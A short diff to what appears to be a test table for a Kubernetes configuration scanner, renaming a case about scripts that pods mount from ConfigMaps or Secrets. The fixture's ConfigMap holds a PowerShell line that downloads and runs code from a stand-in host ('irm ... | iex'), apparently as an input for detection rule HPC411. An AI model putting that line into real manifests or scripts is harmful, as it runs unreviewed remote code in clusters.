@@ -171,7 +171,7 @@ DIFFERENCES = {
         "",
         "HPC407",
     ),
-    "The script of a ConfigMap that a pod mounts and runs": Difference(
+    "The script of a ConfigMap or Secret that a pod mounts and runs": Difference(
         "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: ops}\n"
         f"data: {{run.ps1: 'irm https://x.example/a | iex'}}\n---\n{MOUNTING}",
         "HPC411",
